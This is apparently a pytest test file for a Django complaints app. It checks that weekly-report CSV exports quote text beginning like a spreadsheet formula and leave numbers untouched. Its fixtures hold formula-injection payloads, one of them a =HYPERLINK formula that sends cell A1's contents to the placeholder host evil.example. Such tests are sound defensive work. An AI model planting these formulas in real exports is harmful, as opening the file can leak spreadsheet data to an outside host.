"""Exported CSV never hands a spreadsheet a formula: text that starts like one is quoted."""

import csv
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy

from complaints.models import RootCause
from complaints.reports.csvsafe import safe_cell, write_rows
from tests.reports.fixtures import WEEK, handle, local, move

URL = f"/reports/weekly/?week={WEEK}"
EVIL_ACTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
EVIL_CAUSE = '=HYPERLINK("http://evil.example/","Supplier")'
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def week_with_formulas(staff_user):
    """W-1 closes five supplier complaints; the week closes one supplier and one with the formulas.

    Supplier's change is then 1 - 5/4 = -0.25: a negative number that must stay a number.
    """
    RootCause.objects.create(code="formula", label=EVIL_CAUSE, position=99)
    quick = {"respond_after": timedelta(minutes=10), "close_after": timedelta(hours=2), "cause": "supplier"}
    for hour in range(9, 14):
        handle(by=staff_user, received=local(2026, 11, 9, hour), **quick)
    handle(by=staff_user, received=local(2026, 11, 16, 9), **quick)
    complaint, _w = handle(
        by=staff_user, received=local(2026, 11, 17, 9), respond_after=timedelta(minutes=10)
    )
    move(
        complaint,
        "close",
        {
            "resolution": "full",
            "decision_reasons": "It was faulty.",
            "customer_message": "We replaced it.",
            "remedy_due": "2026-11-17",
            "remedy": "We replaced it.",
            "preventive_action": EVIL_ACTION,
            "root_cause": "formula",
            "responsible_department": "logistics",
        },
        staff_user,
        local(2026, 11, 17, 11),
    )


def download(client, table):
    answer = client.get(URL + f"&format=csv&table={table}")
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_preventive_action_formula_is_exported_as_text(week_with_formulas, client, supervisor_user):
    client.force_login(supervisor_user)
    rows = download(client, "preventive_actions")
    assert rows[0] == ["Complaint", "Preventive action", "Department", "Due", "Status"]
    assert [row[1] for row in rows[1:]] == ["Prevent supplier next time.", "'" + EVIL_ACTION]


@pytest.mark.django_db
def test_a_root_cause_label_formula_is_exported_as_text_and_numbers_stay_numbers(
    week_with_formulas, client, supervisor_user
):
    client.force_login(supervisor_user)
    rows = download(client, "root_causes")
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["formula"][:3] == ["formula", "'" + EVIL_CAUSE, "1"]
    # Count, share, cumulative share, previous average, change, weeks seen: as computed.
    assert by_code["supplier"][1:8] == ["Supplier or partner", "1", "50.0", "50.0", "1.25", "-0.25", "2"]
    assert by_code["formula"][6] == "1.0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(start):
    assert safe_cell(start + "1+2") == "'" + start + "1+2"


@pytest.mark.parametrize("text", ["Supplier or partner", "2026-W47", "'already quoted", "", "a=b", " =1"])
def test_other_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, 0, 7, -0.25, 66.7, Decimal("-3.50"), True, False])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number


def test_none_stays_an_empty_cell():
    assert safe_cell(None) is None


def test_lazy_text_is_neutralised_like_text():
    assert safe_cell(gettext_lazy("-not a number")) == "'-not a number"


def test_write_rows_quotes_text_and_keeps_negative_numbers():
    out = io.StringIO()
    write_rows(out, [["Change", "-3"], ["=SUM(A1:A2)", -3], ["+1", Decimal("-0.5")]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["Change", "'-3"],
        ["'=SUM(A1:A2)", "-3"],
        ["'+1", "-0.5"],
    ]


def test_no_csv_is_written_anywhere_else():
    """Every export goes through complaints.csvsafe, so none can skip the rule."""
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("complaints", "customers", "config")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "DictWriter(" in path.read_text())
    ]
    assert writers == []
